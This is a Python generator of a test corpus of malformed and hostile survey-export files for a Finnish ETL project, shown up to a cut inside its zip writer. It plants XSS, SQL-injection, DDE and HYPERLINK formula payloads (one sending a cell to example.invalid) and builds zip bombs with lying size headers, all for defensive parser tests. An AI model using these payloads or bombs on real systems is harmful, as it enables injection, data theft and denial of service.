"""A corpus of bad and hostile inputs, written deterministically by `build(dir)`.

The repository keeps this generator instead of the files: every byte comes from the project's
export generator (`ipsetl.sample_inbox`) or from seeded `random.Random` instances, never from the
clock. `tests/corpus/expected.toml` says what each file must produce; `tests/test_bad_inputs.py`
checks it. Each entry also knows which of its rows are good (`Entry.good`: source_row → the
canonical values that must be accepted) and which names and e-mail addresses it plants
(`Entry.personal`), so that a test can check that none of them reaches the warehouse.

The hostile workbooks (zip bombs, DTDs, a macro-enabled workbook; section 12) are zips written
byte by byte from the members of a generated export, so that a header can say what the content is
not; they too depend on nothing but the code. Each file stays small on disk (a bomb proves a bound
by what it inflates to) and is written in milliseconds.

Run as a script to look at the files: `python tests/corpus/build_corpus.py /tmp/corpus`.
"""

from __future__ import annotations

import csv
import io
import random
import re
import struct
import sys
import tempfile
import zipfile
import zlib
from collections.abc import Callable
from dataclasses import dataclass, field
from datetime import date, datetime, timedelta
from functools import cache
from pathlib import Path

import openpyxl

from ipsetl.forms import get_form
from ipsetl.sample_inbox import (
    DONT_KNOW,
    UNKNOWN_REGION,
    _save_xlsx,
    generate_assessments,
    generate_monitoring,
    write_events_list,
    write_export,
)

SEED = 4242
MAX_BYTES = 1 << 20  # the size limit the oversized file is read with
LARGE_FILE = "liian_suuri_3MiB.csv"
SQL = "'); DROP TABLE raw.finding; --"
SCRIPT = "<script>alert(1)</script>"
HYPERLINK = '=HYPERLINK("http://example.invalid/x?d="&A1;"Klikkaa tästä")'
LONG_TEXT_CHARS = 100_000
WIDE_COLUMNS = 20_000
STRANGER = ("Tove Söderholm-Kärkkäinen", "tove.soderholm@example.fi")  # typed into fields, not a respondent
OTHER_SURVEY_PEOPLE = (
    ("Aino Ylitalo", "aino.ylitalo@example.fi"),
    ("Eero Pitkäranta", "eero.pitkaranta@example.fi"),
)

Row = tuple[dict, dict | None]  # (values written, canonical values expected in `accepted` or None: rejected)


@dataclass
class Entry:
    name: str
    write: Callable[[Path], None]
    form: str | None = None
    good: dict[int, dict] = field(default_factory=dict)  # source_row → expected canonical values
    personal: set[str] = field(default_factory=set)  # names / e-mails planted in the file
    description: str = ""
    # text that must appear nowhere in what the file gives (findings, accepted values, the warehouse):
    # what an entity would expand to, a line of /etc/passwd
    forbidden: set[str] = field(default_factory=set)


# --- base responses ---------------------------------------------------------------------------


@cache
def _monitoring() -> tuple[dict, ...]:
    return tuple(generate_monitoring(SEED))


@cache
def _assessments() -> tuple[dict, ...]:
    rows = [r for r in generate_assessments(SEED) if all(v != DONT_KNOW for v in r.values())]
    return tuple(rows)


def a(i: int) -> dict:
    """The i-th generated form A response (passes every rule); a fresh copy."""
    rows = _monitoring()
    return dict(rows[(7 * i + 3) % len(rows)])


def b(i: int) -> dict:
    rows = _assessments()
    return dict(rows[(5 * i + 1) % len(rows)])


def ok(row: dict, **changes: object) -> Row:
    """A row that must be accepted with exactly the values written."""
    row = dict(row, **changes)
    return row, row


def kept(row: dict, written: dict, expected: dict) -> Row:
    """A row that must be accepted, with values that read differently from how they are written."""
    return dict(row, **written), {**row, **written, **expected}


def bad(row: dict, **changes: object) -> Row:
    """A row that must be rejected."""
    return dict(row, **changes), None


def _good(rows: list[Row]) -> dict[int, dict]:
    good, n = {}, 0
    for written, expected in rows:
        if not any(v not in (None, "") for v in written.values()):
            continue  # blank line: not a response
        n += 1
        if expected is not None:
            good[n] = expected
    return good


def _personal(rows: list[Row]) -> set[str]:
    return {str(w[k]) for w, _ in rows for k in ("respondent_name", "respondent_email") if w.get(k)}


ENTRIES: list[Entry] = []


def entry(
    name: str,
    write: Callable[[Path], None],
    form: str | None = None,
    rows: list[Row] | None = None,
    personal: set[str] | None = None,
    description: str = "",
    forbidden: set[str] | None = None,
) -> Entry:
    e = Entry(
        name,
        write,
        form,
        _good(rows or []),
        (personal or set()) | _personal(rows or []),
        description,
        set(forbidden or ()),
    )
    if any(x.name == name for x in ENTRIES):
        raise ValueError(f"duplicate corpus name {name}")
    ENTRIES.append(e)
    return e


def export(
    name: str,
    rows: list[Row],
    form: str = "seuranta",
    description: str = "",
    personal: set[str] | None = None,
    **options: object,
) -> Entry:
    """An export written by the project's generator with the given quirks."""
    written = [w for w, _ in rows]
    return entry(name, lambda p: write_export(p, written, form, **options), form, rows, personal, description)


# --- helpers working on the cells of a generated CSV ------------------------------------------


def _generated_cells(rows: list[dict], form: str = "seuranta", **options: object) -> list[list[str]]:
    """The header and cells exactly as write_export formats them (utf-8-sig, `;`)."""
    with tempfile.TemporaryDirectory() as tmp:
        data = write_export(Path(tmp) / "x.csv", rows, form, **options).read_bytes()
    text = data.decode("utf-8-sig")
    return [list(r) for r in csv.reader(io.StringIO(text, newline=""), delimiter=";")]


def _csv_bytes(records: list[list[str]], delimiter: str = ";", line_end: str = "\r\n", bom: bool = True) -> bytes:
    buf = io.StringIO()
    csv.writer(buf, delimiter=delimiter, lineterminator=line_end).writerows(records)
    return (("\ufeff" if bom else "") + buf.getvalue()).encode("utf-8")


def cells_entry(
    name: str,
    rows: list[Row],
    transform: Callable[[list[list[str]]], bytes],
    form: str = "seuranta",
    description: str = "",
    personal: set[str] | None = None,
) -> Entry:
    """Generate the cells, then let `transform` break the file in a way write_export cannot."""
    written = [w for w, _ in rows]

    def write(p: Path) -> None:
        p.write_bytes(transform(_generated_cells(written, form)))

    return entry(name, write, form, rows, personal, description)


def _simple(row: dict) -> dict:
    """Open texts without quotes, `;`, `,` or line breaks: for files whose quoting is broken on purpose."""
    return dict(row, text_successes="Hyvä jakso", text_challenges="Ei suuria haasteita", text_support_needs=None)


def _rnd(tag: str) -> random.Random:
    return random.Random(f"{SEED}:{tag}")


# --- 1. files that are not readable at all ----------------------------------------------------

entry("tyhja.csv", lambda p: p.write_bytes(b""), description="0 bytes")
entry(
    "vain_valilyonteja.csv", lambda p: p.write_bytes(b" \r\n\t\r\n   \r\n\xc2\xa0\r\n"), description="white space only"
)
entry(
    "binaariroskaa.csv", lambda p: p.write_bytes(_rnd("garbage").randbytes(4096)), description="4 KiB of random bytes"
)
entry(
    "binaariroskaa.xlsx",
    lambda p: p.write_bytes(_rnd("garbage-xlsx").randbytes(3000)),
    description="random bytes named .xlsx",
)


def _png() -> bytes:
    def chunk(kind: bytes, data: bytes) -> bytes:
        return len(data).to_bytes(4, "big") + kind + data + zlib.crc32(kind + data).to_bytes(4, "big")

    raw = _rnd("png").randbytes(16 * 49)
    ihdr = (16).to_bytes(4, "big") + (16).to_bytes(4, "big") + bytes([8, 2, 0, 0, 0])
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", ihdr) + chunk(b"IDAT", zlib.compress(raw)) + chunk(b"IEND", b"")


def _zip() -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as z:
        info = zipfile.ZipInfo("raportti/muistiinpanot.txt", date_time=(2026, 1, 2, 8, 0, 0))
        z.writestr(info, "Tämä on zip-paketti, ei Webropol-vienti.\n" * 20)
    return out.getvalue()


def _pdf() -> bytes:
    stream = zlib.compress(_rnd("pdf").randbytes(1500))
    return (
        b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj\n<< /Type /Catalog /Pages 2 0 R >>\nendobj\n"
        b"4 0 obj\n<< /Length "
        + str(len(stream)).encode()
        + b" /Filter /FlateDecode >>\nstream\n"
        + stream
        + b"\nendstream\nendobj\ntrailer\n<< /Root 1 0 R >>\n%%EOF\n"
    )


entry("kuva_png.csv", lambda p: p.write_bytes(_png()), description="a PNG image renamed .csv")
entry("paketti_zip.csv", lambda p: p.write_bytes(_zip()), description="a plain zip (not xlsx) renamed .csv")
entry("asiakirja_pdf.csv", lambda p: p.write_bytes(_pdf()), description="a PDF renamed .csv")
entry(
    "salasanasuojattu.xlsx",
    lambda p: p.write_bytes(b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + _rnd("ole").randbytes(4000)),
    description="OLE compound file (password-protected workbook / old .xls)",
)


def _truncated_xlsx(p: Path) -> None:
    write_export(p, [a(0), a(1), a(2)], "seuranta", fmt="xlsx")
    data = p.read_bytes()
    p.write_bytes(data[: len(data) // 2])


entry(
    "katkennut.xlsx",
    _truncated_xlsx,
    personal=_personal([ok(a(0)), ok(a(1)), ok(a(2))]),
    description="a good xlsx cut in half",
)


def _truncated_csv(cells: list[list[str]]) -> bytes:
    data = _csv_bytes(cells)
    marker = "Kesken jäänyt".encode()
    cut = data.rindex(marker) + len(marker)
    return data[:cut]


cells_entry(
    "katkennut_lainaus.csv",
    [ok(a(3)), ok(a(4)), ok(a(5), text_successes="Kesken jäänyt; vastaus jatkuu\ntoisella rivillä")],
    _truncated_csv,
    description="download cut inside the quoted open text of the last row: the quote never closes",
)


def _unclosed_middle(cells: list[list[str]]) -> bytes:
    header, *rows = cells
    col = get_form("seuranta").columns.index(get_form("seuranta").column("text_successes"))
    lines = [";".join(header)]
    for i, r in enumerate(rows):
        if i == 1:
            r = list(r)
            r[col] = '"Hyvä jakso, mutta lainausmerkki jäi auki'
        lines.append(";".join(r))
    return ("\ufeff" + "\r\n".join(lines) + "\r\n").encode("utf-8")


cells_entry(
    "lainausmerkki_auki_keskella.csv",
    [ok(_simple(a(6))), bad(_simple(a(7))), ok(_simple(a(8))), ok(_simple(a(9)))],
    _unclosed_middle,
    description="an opening quote in row 2 that never closes",
)


# --- 2. text that decodes to the wrong thing --------------------------------------------------


def _mac_roman(rows: list[dict], form: str) -> Callable[[Path], None]:
    def write(p: Path) -> None:
        cells = _generated_cells(rows, form)
        buf = io.StringIO()
        csv.writer(buf, delimiter=";", lineterminator="\r\n").writerows(cells)
        p.write_bytes(buf.getvalue().encode("mac_roman"))

    return write


_MOJI_A = [ok(a(10)), ok(a(11))]
entry(
    "mojibake_seuranta.csv",
    _mac_roman([w for w, _ in _MOJI_A], "seuranta"),
    None,
    None,
    _personal(_MOJI_A),
    "form A saved as Mac Roman: invalid UTF-8, cp1252 gives Š for ä, so most headers are unknown",
)
_MOJI_B = [ok(dict(b(0), region="Pirkanmaan hyvinvointialue")), ok(dict(b(1), region="HUS Psykiatria"))]
entry(
    "mojibake_laatu.csv",
    _mac_roman([w for w, _ in _MOJI_B], "laatu"),
    None,
    None,
    _personal(_MOJI_B),
    "form B saved as Mac Roman: 'Arvioinnin päivämäärä' becomes unreadable, the file is missing it",
)
export(
    "windows1252_hyva.csv",
    [ok(a(12)), ok(a(13))],
    encoding="cp1252",
    description="control: an Excel re-save in Windows-1252 reads correctly",
)


# --- 3. CSV structure ---------------------------------------------------------------------------


def _mixed_delimiters(cells: list[list[str]]) -> bytes:
    header, *rows = cells
    out = _csv_bytes([header, rows[0]])
    out += _csv_bytes([rows[1]], delimiter=",", bom=False) + _csv_bytes(rows[2:], bom=False)
    return out


cells_entry(
    "sekaiset_erottimet.csv",
    [ok(_simple(a(14))), bad(_simple(a(15))), ok(_simple(a(16)))],
    _mixed_delimiters,
    description="header and rows with ';', row 2 with ','",
)


# 59 characters up to the end of the name: within what a message may quote of a cell
_SHORT = dict(
    _simple(a(17)),
    region="HUS Psykiatria",
    period_start=date(2026, 1, 1),
    period_end=date(2026, 2, 1),
    submitted_at=datetime(2026, 2, 5, 9, 0),
    respondent_name="Outi Mäkinen",
    respondent_email=None,
)
cells_entry(
    "sekaiset_erottimet_ilman_sahkopostia.csv",
    [ok(_simple(a(18))), bad(_SHORT), ok(_simple(a(19)))],
    _mixed_delimiters,
    description="row 2 with ',' and no e-mail: the respondent's name sits within the first 60 characters",
)


def _extra_fields(cells: list[list[str]]) -> bytes:
    header, *rows = cells
    rows[1] = rows[1] + ["ylimääräinen", "kenttä"]
    return _csv_bytes([header, *rows])


cells_entry(
    "ylimaaraiset_kentat.csv",
    [ok(a(20)), bad(a(21)), ok(a(22))],
    _extra_fields,
    description="row 2 has two fields more than there are headers",
)


def _blank_rows(cells: list[list[str]]) -> bytes:
    header, *rows = cells
    width = len(header)
    records = [header, rows[0], rows[1], [""] * width, rows[2], [""] * width, [""] * 3]
    return _csv_bytes(records) + b"\r\n\r\n;;;;\r\n"


cells_entry(
    "tyhjat_rivit.csv",
    [ok(a(23)), ok(a(24)), ok(a(25))],
    _blank_rows,
    description="a blank row in the middle and blank rows (some short, some empty lines) at the end",
)

export(
    "rivinvaihdot_lf.csv", [ok(a(26)), ok(a(27))], line_end="\n", encoding="utf-8", description="LF line ends, no BOM"
)
export(
    "rivinvaihdot_crlf.csv",
    [ok(a(28)), ok(a(29), text_challenges="Rivi yksi\r\nrivi kaksi")],
    description="CRLF line ends, a CRLF inside a quoted cell",
)
entry(
    "bom_ja_vastausaika.csv",
    lambda p: p.write_bytes("\ufeffVastausaika\r\n".encode()),
    description="BOM and a lone 'Vastausaika' header",
)
export("vain_otsikot.csv", [], description="the header row of form A and no responses")
export("vain_otsikot.xlsx", [], "laatu", fmt="xlsx", description="the header row of form B and no responses, xlsx")


def _duplicate_header(cells: list[list[str]]) -> bytes:
    header, *rows = cells
    i = header.index("Palvelussa olleet asiakkaat jakson aikana yhteensä")
    return _csv_bytes([header + [header[i]], *[r + [r[i]] for r in rows]])


cells_entry(
    "kaksinkertainen_otsikko.csv", [bad(a(30)), bad(a(31))], _duplicate_header, description="a required question twice"
)


def _unknown_column(cells: list[list[str]]) -> bytes:
    header, *rows = cells
    return _csv_bytes([header + ["Lisätietoja THL:lle"], *[r + ["vapaaehtoinen lisäys"] for r in rows]])


cells_entry(
    "tuntematon_sarake.csv",
    [ok(a(32)), ok(a(33))],
    _unknown_column,
    description="an extra question the form does not have",
)

export(
    "puuttuva_sarake.csv",
    [bad(a(34)), bad(a(35))],
    columns=[c.column for c in get_form("seuranta").columns if c.column != "clients_served"],
    description="a required question missing",
)


def _wide(cells: list[list[str]]) -> bytes:
    header, *rows = cells
    extra = WIDE_COLUMNS - len(header)
    header = header + [f"Lisäkysymys {i}" for i in range(1, extra + 1)]
    rows = [r + [str(i % 7) if i % 1000 == 0 else "" for i in range(extra)] for r in rows]
    return _csv_bytes([header, *rows])


cells_entry(
    "20000_saraketta.csv",
    [ok(a(36)), ok(a(37))],
    _wide,
    description="20 000 columns: the form's 41 and 19 959 unknown ones",
)


# --- 4. form A: every column type broken --------------------------------------------------------

export("paivamaara_31_2.csv", [ok(a(38)), bad(a(39), period_start="31.2.2026")], description="date 31.2.2026")
export(
    "paivamaara_mahdoton.csv",
    [bad(a(40), period_end="29.2.2025"), bad(a(41), period_start="32.1.2026"), ok(a(42))],
    description="impossible dates: 29.2.2025 and 32.1.2026",
)
export("aikaleima_eilen.csv", [bad(a(43), submitted_at="eilen"), ok(a(44))], description="Vastausaika 'eilen'")
export("kokonaisluku_2_5.csv", [ok(a(45)), bad(a(46), coaches_headcount="2,5")], description="integer field '2,5'")
export("desimaali_abc.csv", [ok(a(47)), bad(a(48), coaches_fte="abc")], description="decimal field 'abc'")
export(
    "prosentti_101.csv",
    [ok(a(49), pct_time_job_coaching=92.5), bad(a(50), pct_time_in_community="101")],
    description="percent 101 (and 92,5 accepted)",
)
export("negatiivinen_maara.csv", [bad(a(51), clients_waiting="-3"), ok(a(52))], description="a negative count")
export(
    "tiiminvetaja_4_htv.csv",
    [bad(a(53), team_leader_fte="4"), ok(a(54), team_leader_fte=3.0)],
    description="team_leader_fte 4 (3 is the limit)",
)
export(
    "en_osaa_sanoa_seuranta.csv",
    [ok(a(55)), bad(a(56), employer_contacts=DONT_KNOW)],
    description="'En osaa sanoa' in a form A number field",
)
export(
    "pakollinen_tyhja.csv",
    [bad(a(57), coaches_headcount=None), ok(a(58), median_days_to_employer_contact=None)],
    description="a required field empty (and an optional one empty)",
)
export(
    "valtava_luku.csv",
    [
        bad(a(59), clients_new="99999999999999"),
        bad(a(60), referrals_new="NaN"),
        bad(a(61), jobs_ended="inf"),
        ok(a(62)),
    ],
    description="a number too big for an integer, 'NaN' and 'inf'",
)


# --- 5. form A: rules -----------------------------------------------------------------------------

export(
    "tuntematon_alue.csv",
    [bad(a(63), region=UNKNOWN_REGION), ok(a(64), region="HUS Psykiatria\u00a0")],
    description="a region not on the list (and one with a trailing NBSP, accepted)",
)
_w = a(65)
_w2 = a(66)
export(
    "jakson_pituus.csv",
    [
        bad(_w, period_start=date(2025, 1, 1), period_end=date(2025, 12, 31)),
        bad(_w2, period_start=date(2025, 1, 1), period_end=date(2025, 1, 10)),
        ok(a(67)),
    ],
    description="windows of 365 and 10 days",
)
_r = a(68)
export(
    "jakso_takaperin.csv",
    [bad(_r, period_start=_r["period_end"], period_end=_r["period_start"]), ok(a(69))],
    description="period_end before period_start (reported once, not also as window_length)",
)


def _active_over_served(row: dict) -> dict:
    over = row["clients_served"] + 2
    return dict(
        row,
        clients_active_end=over,
        clients_phase_unknown=row["clients_phase_unknown"] + over - row["clients_active_end"],
    )


def _employed_over_served(row: dict) -> dict:
    return dict(row, clients_employed=row["clients_served"] + 1)


_j = a(72)
_k = a(73)
export(
    "ristiintarkistukset.csv",
    [
        bad(a(70), coaches_fte=float(a(70)["coaches_headcount"]) + 0.5),
        bad(_active_over_served(a(71))),
        bad(_employed_over_served(a(74))),
        bad(_j, jobs_started_permanent=_j["jobs_started"] + 1),
        bad(_k, jobs_started_wage_subsidy=_k["jobs_started"] + 3),
        ok(a(75)),
    ],
    description="each cross-column rule broken once: fte, active, employed, permanent, wage subsidy",
)


_p = a(76)
_e = a(77)
_s = a(78)
export(
    "summat_eivat_tasmaa.csv",
    [
        kept(_p, {"clients_phase_3": _p["clients_phase_3"] + 4}, {}),
        kept(_e, {"ended_other": _e["ended_other"] + 1, "clients_ended": _e["clients_ended"]}, {}),
        kept(
            _s,
            {
                "submitted_at": datetime.combine(_s["period_end"] - timedelta(days=5), datetime.min.time())
                + timedelta(hours=10)
            },
            {},
        ),
    ],
    description="warnings only: phases ≠ active, end reasons ≠ ended, period_end after Vastausaika",
)


# --- 6. form B ------------------------------------------------------------------------------------

export(
    "laatu_asteikon_ulkopuolella.csv",
    [bad(b(0), item_03="6"), bad(b(1), item_25="0"), kept(b(2), {"item_07": "3.0"}, {"item_07": 3})],
    "laatu",
    description="items 6 and 0 (out of 1–5), and '3.0' read as 3",
)
export(
    "laatu_en_osaa_sanoa.csv",
    [kept(b(3), {"item_05": DONT_KNOW}, {"item_05": None}), ok(b(4), item_11=None)],
    "laatu",
    description="'En osaa sanoa' in an item: a warning, the item counts as unanswered",
)
export(
    "laatu_arviointityyppi.csv",
    [bad(b(5), assessment_type="Vertaisarviointi"), ok(b(6))],
    "laatu",
    description="an assessment type that is not on the list",
)
export(
    "laatu_virheelliset.xlsx",
    [bad(b(7), assessed_on="30.2.2026"), bad(b(8), region=None), bad(b(9), item_12="kolme"), ok(b(10))],
    "laatu",
    fmt="xlsx",
    description="xlsx: impossible assessment date, empty region, item 'kolme'",
)


# --- 7. xlsx structure ----------------------------------------------------------------------------


def _two_sheets(rows: list[dict]) -> Callable[[Path], None]:
    def write(p: Path) -> None:
        write_export(p, rows, "seuranta", fmt="xlsx")
        wb = openpyxl.load_workbook(p)
        ws = wb.create_sheet("Ohjeet", 0)
        ws.append(["Täyttöohje"])
        ws.append(["Vastaukset ovat välilehdellä Perusraportti."])
        _save_xlsx(wb, p)

    return write


_TWO = [ok(a(79)), ok(a(80))]
entry(
    "kaksi_valilehtea.xlsx",
    _two_sheets([w for w, _ in _TWO]),
    "seuranta",
    _TWO,
    description="the form is on the second sheet; the first holds instructions",
)


def _merged(rows: list[dict]) -> Callable[[Path], None]:
    def write(p: Path) -> None:
        write_export(p, rows, "seuranta", fmt="xlsx", header_rows=2)
        wb = openpyxl.load_workbook(p)
        ws = wb.active
        top = [c.value for c in ws[1]]
        ws.insert_rows(1)
        ws["A1"] = "IPS-seuranta 3-2026 – Perusraportti"
        ws.merge_cells(start_row=1, start_column=1, end_row=1, end_column=6)
        i = 0
        while i < len(top):
            j = i + 1
            while j < len(top) and top[j] is None:
                j += 1
            if j - i > 1 and top[i] is not None:
                ws.merge_cells(start_row=2, start_column=i + 1, end_row=2, end_column=j)
            i = j
        _save_xlsx(wb, p)

    return write


_MERGED = [ok(a(81)), ok(a(82)), ok(a(83))]
entry(
    "yhdistetyt_solut.xlsx",
    _merged([w for w, _ in _MERGED]),
    "seuranta",
    _MERGED,
    description="a merged title row above a two-row header whose question cells are merged over their fields",
)


# --- 8. other files in the inbox by mistake -------------------------------------------------------

entry(
    "ilmoittautuneet_events.csv",
    write_events_list,
    personal={
        "maija.meikalainen@example.fi",
        "jukka.hamalainen@example.fi",
        "paivi.karkkainen@example.fi",
        "sari.soderholm@example.fi",
        "timo.rasanen@example.fi",
    },
    description="a Webropol Events registration list",
)


def _other_survey(p: Path) -> None:
    header = ["Vastausaika", "Nimi", "Sähköposti", "Kuinka tyytyväinen olit koulutukseen?", "Vapaa sana"]
    rows = [
        ["3.2.2026 10:14", *OTHER_SURVEY_PEOPLE[0], "Erittäin tyytyväinen", "Kiitos!"],
        ["4.2.2026 8:02", *OTHER_SURVEY_PEOPLE[1], "Melko tyytyväinen", ""],
    ]
    p.write_bytes(_csv_bytes([header, *rows]))


entry(
    "toinen_kysely.csv",
    _other_survey,
    personal={x for pair in OTHER_SURVEY_PEOPLE for x in pair},
    description="a different Webropol survey (course feedback)",
)


def _large(p: Path) -> None:
    with open(p, "wb") as fh:
        fh.write("\ufeffVastausaika;Hyvinvointialue tai hanke\r\n".encode())
        fh.truncate(3 * MAX_BYTES)  # sparse: quick to create, 3 MiB long


entry(LARGE_FILE, _large, description="3 MiB read with a 1 MiB limit")


# --- 9. hostile content ---------------------------------------------------------------------------

export(
    "html_ja_skripti.csv",
    [
        ok(a(84), text_successes=SCRIPT, text_challenges='<img src=x onerror="alert(2)">&amp; <b>lihava</b>'),
        bad(a(85), coaches_headcount="<b>3</b>"),
    ],
    description="HTML and script in open text (stored as typed) and in a number field",
)
export(
    "kaavat.csv",
    [
        ok(a(86), text_successes=HYPERLINK, text_challenges="=1+1", text_support_needs="@SUM(A1:A9)"),
        bad(a(87), clients_served="=SUM(A1:A3)"),
        bad(a(88), referrals_new="+cmd|' /C calc'!A0"),
    ],
    description="spreadsheet formulas: accepted in open text, type errors in number fields",
)
export(
    "sql_injektio.csv",
    [ok(a(89), text_successes=SQL, text_challenges="Robert'); DROP TABLE mart.source_file;--"), bad(a(90), region=SQL)],
    description="SQL fragments in open text (stored as typed) and as the region",
)
_LONG = "".join(_rnd("long").choices('abcdefghijklmnopqrstuvwxyzåäö ,.;\n"', k=LONG_TEXT_CHARS))
export(
    "pitka_solu.csv",
    [ok(a(91), text_challenges=_LONG), bad(a(92), employer_contacts="9" * 10 + "x" * (LONG_TEXT_CHARS - 10))],
    description="100 000 characters of open text (accepted) and in a number field (short message)",
)
_n1, _n2, _n3 = a(93), a(94), a(95)
export(
    "nimi_numerokentassa.csv",
    [
        bad(_n1, coaches_headcount=_n1["respondent_name"]),
        bad(_n2, clients_served=_n2["respondent_email"]),
        bad(_n3, clients_waiting=STRANGER[1]),
        ok(a(96)),
    ],
    personal={STRANGER[1]},
    description="the respondent's own name, own e-mail, and someone else's e-mail typed into number fields",
)
_m1 = a(97)
# Row 2 is another region's response, answered by someone else: row 1's name is not among row 2's own cells.
_m2 = next(dict(r) for r in _monitoring() if r["respondent_name"] != _m1["respondent_name"])
export(
    "toisen_vastaajan_nimi.csv",
    [ok(_m1), bad(_m2, jobs_ended=_m1["respondent_name"]), bad(a(99), clients_new=STRANGER[0])],
    description="row 1's respondent name in row 2's number field; in row 3 a name that is no respondent's "
    "(quoting it is allowed: nothing tells it from other text)",
)
export(
    "ohjausmerkit_alueessa.csv",
    [bad(a(100), region="Pirkanmaan\u200b hyvinvointialue"), ok(a(101), region=" Lapin  hyvinvointialue ")],
    description="a zero-width space inside a region name (unknown), extra spaces around one (accepted)",
)


# --- 10. numbers that are not ASCII digits with the Finnish separators ----------------------------

_FULLWIDTH = str.maketrans("0123456789", "０１２３４５６７８９")
_ARABIC_INDIC = str.maketrans("0123456789", "٠١٢٣٤٥٦٧٨٩")


def _fmt_day(d: date) -> str:
    return f"{d.day}.{d.month}.{d.year}"


_u1, _u2, _u3 = a(102), a(103), a(104)
export(
    "numerot_unicode.csv",
    [
        ok(a(105)),
        bad(a(106), coaches_headcount="٣"),  # ARABIC-INDIC DIGIT THREE: int() reads it as 3
        bad(a(107), clients_waiting="１"),  # FULLWIDTH DIGIT ONE
        bad(_u1, period_start=_fmt_day(_u1["period_start"]).translate(_FULLWIDTH)),  # ３.２.２０２６
        ok(a(108)),
        bad(_u2, submitted_at=f"{_fmt_day(_u2['submitted_at'].date())} 10:15".translate(_ARABIC_INDIC)),
        bad(_u3, coaches_fte=str(_u3["coaches_fte"]).replace(".", ",").translate(_FULLWIDTH)),  # ２,５
        ok(a(109)),
    ],
    description="Unicode digits (Arabic-Indic, fullwidth) in counts, a date, a timestamp and a decimal",
)
export(
    "numerot_muodot.csv",
    [
        ok(a(110)),
        bad(a(111), employer_contacts="1_000"),  # Python's int() accepts the underscore
        bad(a(112), referrals_new="1e309"),  # float() gives inf
        bad(a(113), jobs_ended="NaN"),
        bad(a(114), clients_new="Infinity"),
        bad(a(115), clients_waiting="\u00a0"),  # a lone no-break space: something typed, no number
        bad(a(116), education_started="1.234,5"),
        bad(a(117), care_teams_attached="1,2,3"),
        ok(a(118)),
    ],
    description="1_000, 1e309, NaN, Infinity, a lone NBSP, 1.234,5 and 1,2,3 in integer counts",
)


# --- 11. bytes of no supported encoding in a UTF-8 file -----------------------------------------

# Placeholders in the generated text, replaced by raw bytes after encoding: 0x81, 0x8D and 0x9D are
# undefined in Windows-1252 (and invalid UTF-8); 0xF6 is Windows-1252's ö, invalid alone in UTF-8.
_BYTE_MARK = {"<<81>>": b"\x81", "<<F6>>": b"\xf6", "<<8D>>": b"\x8d", "<<9D>>": b"\x9d"}
_BYTES_ROWS = [
    ok(a(119), text_successes="Yhteistyö työllisyyspalveluiden kanssa sujui hyvin."),
    bad(a(120), text_successes="Kopioitu vanhasta asiakirjasta<<81>> – viiva katosi"),
    ok(a(121), text_challenges="Jonot kasvoivat; työnantajia ei tavoitettu kesällä."),
    bad(a(122), text_challenges="Yhteisty<<F6>> sujui, mutta tila oli ahdas"),
    ok(a(123)),
    bad(a(124), text_support_needs="Lainausmerkit <<8D>>näin<<9D>> Wordista"),
    ok(a(125), text_successes="Äänestys, ÅÄÖ åäö – € “lainaus”"),
    ok(a(126)),
    ok(a(127)),
    ok(a(128)),
]


def _stray_bytes(p: Path) -> None:
    write_export(p, [w for w, _ in _BYTES_ROWS], "seuranta", encoding="utf-8")  # UTF-8 without BOM
    data = p.read_bytes()
    for mark, byte in _BYTE_MARK.items():
        assert data.count(mark.encode()) == 1, mark
        data = data.replace(mark.encode(), byte)
    p.write_bytes(data)


entry(
    "tavut_ilman_merkistoa.csv",
    _stray_bytes,
    "seuranta",
    _BYTES_ROWS,
    description="UTF-8 (no BOM) with 0x81, a stray 0xF6, 0x8D and 0x9D in the open texts of three rows",
)


# --- 12. hostile workbooks: bombs, DTDs, macros ---------------------------------------------------
#
# These are zips written byte by byte here (_zip_bytes), from the members of an export written by
# the project's generator: zipfile writes honest headers and compresses itself, and a bomb needs
# neither. Every member is deflated with zlib (raw deflate, level 6) and stored with a fixed time.

_ZIP_TIME = (2026, 1, 2, 8, 0, 0)
BOMB_MIB = 24  # the honest bomb's sheet inflates to this many MiB (the files are ~50 KB)
LYING_MIB = 32  # the lying bomb's sheet; its headers say LYING_DECLARED bytes
LYING_DECLARED = 4096
LYING_MEMBER = "xl/worksheets/sheet1.xml"
PASSWD_LINE = "root:x:0:0"  # the first line of any /etc/passwd


@dataclass
class ZipMember:
    name: str
    deflated: bytes  # raw deflate stream
    crc: int  # CRC-32 of the real content
    size: int  # the real inflated size
    declared: int | None = None  # the size both headers claim, if not `size` (a lie)


def deflated(name: str, data: bytes) -> ZipMember:
    c = zlib.compressobj(6, zlib.DEFLATED, -15)
    return ZipMember(name, c.compress(data) + c.flush(), zlib.crc32(data), len(data))


def padded(name: str, head: bytes, mib: int, tail: bytes) -> ZipMember:
    """`head` + `mib` MiB of spaces + `tail`, deflated without ever holding the spaces: after a full
    flush deflate starts afresh, so the block of one MiB of spaces is the same every time and is
    repeated. The CRC is of the whole real content."""
    chunk = b" " * (1 << 20)
    c = zlib.compressobj(6, zlib.DEFLATED, -15)
    first = c.compress(head) + c.flush(zlib.Z_FULL_FLUSH)
    block = c.compress(chunk) + c.flush(zlib.Z_FULL_FLUSH)
    again = c.compress(chunk) + c.flush(zlib.Z_FULL_FLUSH)
    assert block == again  # what makes the repetition a valid stream
    last = c.compress(tail) + c.flush(zlib.Z_FINISH)
    crc = zlib.crc32(head)
    for _ in range(mib):
        crc = zlib.crc32(chunk, crc)
    crc = zlib.crc32(tail, crc)
    return ZipMember(name, first + block * mib + last, crc, len(head) + mib * len(chunk) + len(tail))


def _zip_bytes(members: list[ZipMember]) -> bytes:
    """A zip of deflated members. A member's `declared` size is written, with struct, into both its
    local file header and its central-directory entry in place of the real size; its compressed
    size and CRC stay true (so the stream itself is intact and only the size lies)."""
    y, mo, d, h, mi, s = _ZIP_TIME
    dos_time, dos_date = (h << 11) | (mi << 5) | (s // 2), ((y - 1980) << 9) | (mo << 5) | d
    out, central = bytearray(), bytearray()
    for m in members:
        name = m.name.encode("ascii")
        size = m.size if m.declared is None else m.declared
        offset = len(out)
        # local file header: signature, version needed, flags, method (8 = deflate), time, date,
        # crc-32, compressed size, uncompressed size, name length, extra length
        out += struct.pack(
            "<4sHHHHHIIIHH", b"PK\x03\x04", 20, 0, 8, dos_time, dos_date, m.crc, len(m.deflated), size, len(name), 0
        )
        out += name + m.deflated
